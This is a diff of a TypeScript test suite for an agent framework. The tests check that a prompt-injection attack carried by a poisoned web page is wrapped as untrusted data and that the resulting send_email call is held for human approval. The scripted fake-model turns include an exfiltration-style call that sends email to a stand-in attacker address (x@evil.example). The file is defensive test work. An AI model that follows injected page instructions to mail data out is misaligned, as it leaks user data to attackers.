@@ -11,7 +11,7 @@ import { FakeLLM, makeTestCtx, Tracing, Turn, Seed } from "@agentkit/testing"
 import { Tool } from "@agentkit/tools"
 import { describe, expect, it } from "@effect/vitest"
 import { Chunk, Effect, Layer, Schema, Stream } from "effect"
-import { call } from "./fixtures.js"
+import { call, expectedDigest } from "./fixtures.js"
 
 const { MODEL } = Seed
 
@@ -94,7 +94,8 @@ describe("the poisoned-page scenario", () => {
       expect(log.inbox).toBe(1)
       expect(log.fetched).toEqual(["https://flights.example"])
       expect(result).toMatchObject({ output: "", partial: true, stopReason: "awaiting_approval" })
-      expect(result.suspended?.pending).toEqual([{ call: mailCall, digest: Approval.digest(mailCall) }])
+      expect(result.suspended?.pending).toMatchObject([{ call: mailCall, kind: "Gate", reasons: ["trifecta"] }])
+      expect(result.suspended!.pending[0]!.digest).toBe(expectedDigest(result.suspended!.pending[0]!))
       expect(llm.calls).toBe(3)
       // the poisoned page reached the model only as marked data
       expect(toolMessages(llm.requests[2]!.messages)[1]?.content).toBe(RunPolicy.wrapUntrustedOutput(PAGE, "fetch_url"))
@@ -136,7 +137,7 @@ describe("the poisoned-page scenario", () => {
         yield* agentOver(tools).stream(TASK).pipe(Stream.provideLayer(makeTestCtx({ llm: poisonedModel() })), Stream.runCollect)
       )
       const interrupts = events.filter(AgentEvent.$is("Interrupt"))
-      expect(interrupts).toEqual([AgentEvent.Interrupt({ call: mailCall, digest: Approval.digest(mailCall) })])
+      expect(interrupts).toMatchObject([{ _tag: "Interrupt", call: mailCall, kind: "Gate", reasons: ["trifecta"] }])
       expect(events.slice(-2).map((event) => event._tag)).toEqual(["Interrupt", "Final"])
     })
   )
@@ -194,7 +195,7 @@ describe("the dynamic check counts only legs the run has touched", () => {
     Effect.gen(function* () {
       const { log, tools } = world()
       const approver = Layer.succeed(Approval.Approver, {
-        decide: ({ pending }) => Effect.succeed(Object.fromEntries(pending.map((p) => [p.call.id, Approval.reject(p.digest, "no")])))
+        decide: ({ pending }) => Effect.succeed(Object.fromEntries(pending.map((p) => [p.id, Approval.reject(p.digest, "no")])))
       })
       const llm = FakeLLM.script([
         Turn({ toolCalls: [call("c1", "read_inbox")] }),
@@ -227,7 +228,7 @@ describe("the gated call answered", () => {
     const second = FakeLLM.script([Turn({ toolCalls: [call("c4", "send_email", { to: "x@evil.example", body: "again" })] })])
     const resumed = await Effect.runPromise(
       agentOver(tools)
-        .resume("test-run", { [pending.call.id]: Approval.approve(pending.digest) })
+        .resume("test-run", { [pending.id]: Approval.approve(pending.digest) })
         .pipe(Effect.provide(layer(second)))
     )
     expect(log.sent).toEqual([ATTACKER])
@@ -243,7 +244,7 @@ describe("the gated call answered", () => {
         decide: ({ pending }) =>
           Effect.sync(() => {
             for (const p of pending) asked.push(p.call.name)
-            return Object.fromEntries(pending.map((p) => [p.call.id, Approval.approve(p.digest)]))
+            return Object.fromEntries(pending.map((p) => [p.id, Approval.approve(p.digest)]))
           })
       })
       const { log, tools } = world()
